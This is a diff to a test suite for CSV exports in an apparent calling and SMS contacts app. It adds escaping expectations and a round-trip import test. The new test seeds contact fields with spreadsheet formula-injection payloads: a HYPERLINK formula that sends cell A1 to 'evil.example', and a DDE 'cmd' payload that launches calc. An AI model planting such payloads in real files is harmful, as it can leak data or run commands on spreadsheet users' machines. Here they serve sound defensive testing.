@@ -82,7 +82,8 @@ describe('exports', () => {
     expect(rows).toHaveLength(CALLS);
     rows.forEach((row, i) => {
       const call = calls[i];
-      expect(row.slice(0, 8)).toEqual([call.call_id, call.call_type, call.direction, call.call_status, call.agent_id, String(call.agent_version), call.from_number, call.to_number]);
+      // Numbers begin with +, so they carry the formula escaping's quote (csv-write.ts).
+      expect(row.slice(0, 8)).toEqual([call.call_id, call.call_type, call.direction, call.call_status, call.agent_id, String(call.agent_version), `'${call.from_number}`, `'${call.to_number}`]);
       expect(JSON.parse(row[header!.indexOf('metadata')]!)).toEqual(call.metadata);
     });
 
@@ -174,12 +175,35 @@ describe('exports', () => {
         m.message_id,
         sms.body.chat_id,
         m.role === 'agent' ? 'outbound' : 'inbound',
-        m.role === 'agent' ? ours : person,
-        m.role === 'agent' ? person : ours,
+        `'${m.role === 'agent' ? ours : person}`,
+        `'${m.role === 'agent' ? person : ours}`,
         m.content,
         String(m.created_timestamp),
       ]),
     );
+  }, 60_000);
+
+  it('escapes cells a spreadsheet would run as formulas, and the contacts import reads the export back as it was', async () => {
+    const ws = await app.newWorkspace();
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
+    const contact = await newContact(ws.api, { first_name: name, last_name: "-2+3+cmd|' /C calc'!A0", email: 'ada@example.com', external_id: '@ext-1' });
+    const csv = await ws.api.post('/exports', { body: { type: 'contacts', format: 'csv' } });
+    expect(await finished(ws, csv.body.export_id)).toMatchObject({ status: 'complete', row_count: 1 });
+    const text = await download(ws, csv.body.export_id);
+    expect(text).toBe(
+      'contact_id,phone_number,first_name,last_name,email,tags,do_not_call,external_id,custom_fields,created_timestamp,user_modified_timestamp\r\n' +
+        `${contact.contact_id},'${contact.phone_number},"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")",'-2+3+cmd|' /C calc'!A0,ada@example.com,[],false,'@ext-1,{},` +
+        `${contact.created_timestamp},${contact.user_modified_timestamp}\r\n`,
+    );
+
+    // An export imported back: the quote the escaping added is gone, the number is a number again.
+    const other = await app.newWorkspace();
+    const mapping = ['phone_number', 'first_name', 'last_name', 'email', 'external_id'].map((field) => ({ external_field_name: field, field_name: field }));
+    const imported = await other.api.post('/import-contacts', { body: { csv: text, column_mapping: mapping } });
+    expect(imported.body).toMatchObject({ status: 'completed', created: 1, failed: 0 });
+    const back = await other.api.get(`/get-contact-by-phone/${encodeURIComponent(contact.phone_number)}`);
+    expect(back.status).toBe(200);
+    expect(back.body).toMatchObject({ phone_number: contact.phone_number, first_name: name, last_name: "-2+3+cmd|' /C calc'!A0", email: 'ada@example.com', external_id: '@ext-1' });
   }, 60_000);
 
   it('refuses bad requests with 400s; an SMS export of a workspace without SMS is the header alone', async () => {
